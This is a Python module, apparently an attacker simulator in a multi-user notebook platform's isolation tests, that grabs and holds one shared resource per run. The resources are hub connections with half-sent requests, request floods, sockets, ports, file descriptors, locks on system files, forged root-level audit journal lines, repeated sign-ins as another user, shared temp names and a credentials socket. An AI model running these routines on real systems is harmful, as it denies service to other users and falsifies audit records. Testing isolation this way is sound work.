"""A user who takes as much as possible of one resource, and keeps it. Usage: python -m attackers.greedy THING

It prints as JSON how much it got and what refused more, and keeps it until its input ends.
"""

import contextlib
import fcntl
import http.client
import json
import os
import socket
import stat
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .hub import sign_in
from .machine import below, own_loopback

_HUB = ("127.0.0.1", 8081)
_CREDENTIALS = "/run/cloudnotebook-credentials/socket"
_JOURNAL = "/run/systemd/journal/socket"
_PATIENCE = 5.0
# What is taken lives as long as this process.
_kept: list[Any] = []


def take(most: int, one: Callable[[int], object]) -> tuple[int, str]:
    """Takes one after the other; returns how many it got, and what ended it."""
    for number in range(most):
        try:
            _kept.append(one(number))
        except OSError as refusal:
            return number, str(refusal)
    return most, ""


def _connection(to: tuple[str, int]) -> socket.socket:
    made = socket.create_connection(to, _PATIENCE)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # closes immediately
    return made


def hub() -> tuple[int, str]:
    """Connections on which the hub has answered, each with half of a second request."""

    def one(_: int) -> socket.socket:
        made = _connection(_HUB)  # a user's network always accepts this, then asks the hub
        made.sendall(b"GET /hub/health HTTP/1.1\r\nHost: x\r\n\r\n")
        if not made.recv(65536):
            raise ConnectionResetError("closed")
        made.sendall(b"POST /hub/login HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\nx")
        return made

    return take(3000, one)


def requests() -> tuple[int, str]:
    """The hub's time: endless requests, on every connection that it accepts."""
    answered: list[int] = []

    def ask_on_and_on() -> None:
        with contextlib.suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection(*_HUB, timeout=60)
            while True:
                connection.request("GET", "/hub/nowhere")
                answer = connection.getresponse()
                answer.read()
                answered.append(answer.status)

    for _ in range(64):
        threading.Thread(target=ask_on_and_on, daemon=True).start()
    deadline = time.monotonic() + 30
    while len(answered) < 1000 and time.monotonic() < deadline:
        time.sleep(0.1)
    return len(answered), ""


def connections() -> tuple[int, str]:
    """Connections in the kernel's shared table."""
    listening = socket.create_server((own_loopback(), 0), backlog=100)
    there = listening.getsockname()

    def one(_: int) -> tuple[socket.socket, socket.socket]:
        return _connection(there), listening.accept()[0]

    _kept.append(listening)
    return take(10_000, one)


def ports() -> tuple[int, str]:
    """Ports of the user's own address."""
    own = own_loopback()
    return take(20_000, lambda _: socket.create_server((own, 0)))


def files() -> tuple[int, str]:
    """Open files of one process."""
    return take(200_000, lambda _: os.open("/dev/null", os.O_RDONLY))


def locks() -> tuple[int, str]:
    """Locks of both kinds on every file that opens, in places where the machine's programs keep theirs."""
    held = 0
    for entry in below(
        "/run", "/var", "/etc", "/data", "/opt", "/home", "/usr/local", "/root", "/srv", "/boot", "/storage"
    ):
        if not entry.is_file(follow_symlinks=False) and not entry.is_dir(follow_symlinks=False):
            continue
        with contextlib.suppress(OSError):
            opened = os.open(entry.path, os.O_RDONLY | os.O_NONBLOCK)
            _kept.append(opened)
            fcntl.flock(opened, fcntl.LOCK_EX | fcntl.LOCK_NB)
            held += 1
            if stat.S_ISREG(os.fstat(opened).st_mode):
                fcntl.lockf(opened, fcntl.LOCK_SH | fcntl.LOCK_NB)
    return held, ""


def journal() -> tuple[int, str]:
    """Lines in the journal, under the audit's name and in root's journal."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as to:
        to.connect(_JOURNAL)
        line = b"SYSLOG_IDENTIFIER=cloudnotebook-audit\n_UID=0\nPRIORITY=2\nMESSAGE=flood of the greedy\n"
        return take(30_000, lambda _: to.send(line))


def sign_ins() -> tuple[int, str]:
    """Sign-ins in another user's name, past the web server."""
    statuses = [sign_in("ada", {})[0] for _ in range(300)]
    return statuses.count(403), "refused"


def memory() -> tuple[int, str]:
    """Names in folders and memory that all users seem to share."""
    names = [Path(folder) / "greedy" for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")]
    for name in names:
        name.write_text("greedy")
    segment = os.popen("ipcmk --shmem 4096").read()
    return len(names) + segment.count("id"), ""


def credentials() -> tuple[int, str]:
    """Connections to the service that gives the kernel role, each with half a request."""

    def one(_: int) -> socket.socket:
        made = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        made.settimeout(_PATIENCE)
        made.connect(_CREDENTIALS)
        made.sendall(b"GET / HTTP/1.0\r\nX: ")
        return made

    return take(1000, one)


THINGS = (hub, requests, connections, ports, files, locks, journal, sign_ins, memory, credentials)


def main() -> None:
    thing = {thing.__name__: thing for thing in THINGS}[sys.argv[1]]
    got, refusal = thing()
    print(json.dumps({"got": got, "refusal": refusal}), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
